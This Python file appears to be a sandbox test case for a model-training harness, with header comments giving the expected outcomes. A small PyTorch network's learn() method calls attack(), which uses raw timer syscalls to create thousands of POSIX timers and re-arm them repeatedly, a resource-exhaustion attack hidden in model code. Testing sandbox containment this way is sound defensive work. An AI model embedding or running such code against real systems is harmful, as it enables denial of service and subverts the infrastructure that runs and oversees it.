# expect: passed predict
# expect[runsc]: timeout train|predict
import ctypes
import os
import struct
import time

import torch
import torch.nn as nn


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    import signal
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
    made = 0
    ev = struct.pack("qii48x", 0, int(signal.SIGUSR1), 0)
    timers = []
    for _ in range(20000):
        t = ctypes.c_int()
        if libc.syscall(222, 1, ev, ctypes.byref(t)) != 0: break
        timers.append(t.value)
    print("timers", len(timers), flush=True)
    spec = struct.pack("qqqq", 0, 1, 0, 500000000)
    end = time.monotonic() + 1
    rounds = 0
    while time.monotonic() < end:
        for t in timers: libc.syscall(223, t, 0, spec, 0)
        rounds += 1
    print("rounds", rounds)


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.layers = nn.Sequential(nn.Flatten(), nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0]))

    def forward(self, x):
        return self.layers(x)

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for inputs, labels in train_data:
            self.optimizer.zero_grad()
            nn.functional.cross_entropy(self(inputs), labels).backward()
            self.optimizer.step()
        attack()


def supported_hyperparameters():
    return {"lr", "momentum"}
